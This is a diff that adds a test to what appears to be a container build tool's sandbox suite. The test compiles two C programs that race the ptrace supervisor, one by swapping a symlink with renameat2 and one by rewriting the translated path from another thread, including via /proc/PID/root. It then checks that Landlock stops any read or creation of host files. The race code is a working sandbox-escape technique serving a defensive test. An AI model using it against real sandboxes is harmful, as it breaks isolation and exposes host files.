@@ -311,3 +311,205 @@ fn fexecve_of_a_dynamic_program_loads_the_images_loader() -> TestResult {
     );
     Ok(())
 }
+
+/// A hostile step's first race: another thread swaps the directory `/race/d` for a symlink
+/// to a host directory (`renameat2` with `RENAME_EXCHANGE`) between the supervisor's
+/// resolution of `/race/d/...` and the kernel's walk of the host path it gave. It reads
+/// `/race/d/secret` and creates `/race/d/made` until both escaped or the rounds are done.
+const SWAP_C: &str = r#"#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+static atomic_int done;
+static void *swapper(void *arg) {
+  (void)arg;
+  while (!atomic_load(&done))
+    syscall(SYS_renameat2, AT_FDCWD, "/race/d", AT_FDCWD, "/race/l", 2);
+  return 0;
+}
+int main(int argc, char **argv) {
+  if (argc != 3) return 2;
+  long rounds = atol(argv[2]), read_out = 0, made = 0, i;
+  mkdir("/race", 0755);
+  mkdir("/race/d", 0755);
+  int fd = open("/race/d/secret", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write(fd, "inside\n", 7) != 7) return 3;
+  close(fd);
+  if (symlink(argv[1], "/race/l")) return 4;
+  pthread_t t;
+  pthread_create(&t, 0, swapper, 0);
+  char buf[64];
+  /* The guest has one `made`: a second exclusive creation made one on the host. */
+  for (i = 0; i < rounds && !(read_out && made > 1); i++) {
+    fd = open("/race/d/secret", O_RDONLY);
+    if (fd >= 0) {
+      ssize_t n = read(fd, buf, sizeof buf - 1);
+      close(fd);
+      if (n > 0 && strncmp(buf, "inside", 6)) {
+        buf[n] = 0;
+        read_out++;
+        printf("swap read %s\n", buf);
+      }
+    }
+    fd = open("/race/d/made", O_WRONLY | O_CREAT | O_EXCL, 0644);
+    if (fd >= 0) {
+      close(fd);
+      made++;
+    }
+  }
+  atomic_store(&done, 1);
+  pthread_join(t, 0);
+  printf("swap rounds %ld read %ld made %ld\n", i, read_out, made > 1 ? made - 1 : 0);
+  return 0;
+}
+"#;
+
+/// A hostile step's second race: one thread opens `GUEST` (reading it, or creating it) on a
+/// stack of its own, and another overwrites the host path the supervisor wrote below that
+/// thread's stack pointer with `TARGET` between the supervisor's write and the kernel's read.
+const REWRITE_C: &str = r#"#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#define STACK (1 << 20)
+static char *volatile sp;
+static atomic_int done;
+static const char *guest, *target;
+static int create;
+static long rounds, got, tries;
+static void *opener(void *arg) {
+  (void)arg;
+  char here;
+  sp = &here;
+  char buf[64];
+  for (tries = 0; tries < rounds && !got; tries++) {
+    int fd = create ? open(guest, O_WRONLY | O_CREAT | O_EXCL, 0644) : open(guest, O_RDONLY);
+    /* The guest's file was removed: only the target can exist already. */
+    if (fd < 0 && create && errno == EEXIST) {
+      got++;
+      printf("rewrite made the target\n");
+    }
+    if (fd < 0) continue;
+    if (create) {
+      close(fd);
+      unlink(guest);
+      continue;
+    }
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    if (n > 0 && strncmp(buf, "inside", 6)) {
+      buf[n] = 0;
+      got++;
+      printf("rewrite read %s\n", buf);
+    }
+  }
+  atomic_store(&done, 1);
+  return 0;
+}
+static void *rewriter(void *arg) {
+  (void)arg;
+  while (!sp) ;
+  /* The opener's stack is fresh (zero): the translated path is the first string below sp. */
+  char *lo = sp - 65536, *at = 0;
+  size_t len = strlen(target) + 1;
+  while (!atomic_load(&done)) {
+    if (!at) {
+      char *p = memmem(lo, sp - lo, guest, strlen(guest));
+      if (p) {
+        while (p > lo && p[-1]) p--;
+        at = p;
+      }
+      continue;
+    }
+    memcpy(at, target, len);
+  }
+  return 0;
+}
+int main(int argc, char **argv) {
+  if (argc != 5) return 2;
+  create = !strcmp(argv[1], "create");
+  guest = argv[2];
+  target = argv[3];
+  rounds = atol(argv[4]);
+  if (!create) {
+    FILE *f = fopen(guest, "w");
+    if (!f) return 3;
+    fputs("inside\n", f);
+    fclose(f);
+  }
+  pthread_attr_t attr;
+  pthread_attr_init(&attr);
+  pthread_attr_setstack(&attr, calloc(1, STACK), STACK);
+  pthread_t a, b;
+  pthread_create(&b, 0, rewriter, 0);
+  pthread_create(&a, &attr, opener, 0);
+  pthread_join(a, 0);
+  pthread_join(b, 0);
+  printf("rewrite %s %s rounds %ld escaped %ld\n", argv[1], target, tries, got);
+  return 0;
+}
+"#;
+
+/// The races a hostile step runs against the supervisor, as the ptrace tier's documentation
+/// described them before Landlock: a symlink swapped in after the supervisor resolved a path,
+/// and the translated path rewritten from another thread, towards the canary directly and
+/// through `/proc/PID/root` of init, of the supervisor and of umstage itself. Landlock refuses
+/// every file outside the step's own, whatever path the kernel walks.
+#[test]
+fn racing_the_supervisor_reaches_no_host_file() -> TestResult {
+    let env = Env::new()?;
+    let canary = Canary::new(&env)?;
+    let c = canary.path();
+    let debian = with_debian(&env)?;
+    let dockerfile = format!(
+        "FROM debian\n\
+         COPY swap.c rewrite.c /src/\n\
+         RUN gcc -O2 -pthread -o /usr/local/bin/swap /src/swap.c \\\n\
+          && gcc -O2 -pthread -o /usr/local/bin/rewrite /src/rewrite.c\n\
+         RUN swap {c} 20000 && mkdir -p /race \\\n\
+          && sup=$PPID && umstage=$(cut -d' ' -f4 /proc/$sup/stat) \\\n\
+          && rewrite read /race/victim {c}/secret 20000 \\\n\
+          && rewrite create /race/new {c}/made 20000 \\\n\
+          && rewrite read /race/victim /proc/1/root{c}/secret 20000 \\\n\
+          && rewrite read /race/victim /proc/$sup/root{c}/secret 20000 \\\n\
+          && rewrite read /race/victim /proc/$umstage/root{c}/secret 20000\n"
+    );
+    let ctx = env.context(
+        "ctx",
+        &[
+            ("Dockerfile", &dockerfile),
+            ("swap.c", SWAP_C),
+            ("rewrite.c", REWRITE_C),
+        ],
+    )?;
+    let out = env.build(
+        &ctx,
+        "img.tar",
+        &["--sandbox", "ptrace", "--build-context", &debian],
+    );
+    let log = stderr(&out);
+    assert_ok(&out);
+    // Each race ran all its rounds: none ended early by escaping.
+    assert_eq!(
+        lines_with(&log, "swap rounds "),
+        ["swap rounds 20000 read 0 made 0"],
+        "{log}"
+    );
+    let rewrites = lines_with(&log, "rewrite ");
+    assert_eq!(rewrites.len(), 5, "{log}");
+    for line in rewrites {
+        assert!(line.ends_with(" rounds 20000 escaped 0"), "{log}");
+    }
+    canary.check(&log)
+}
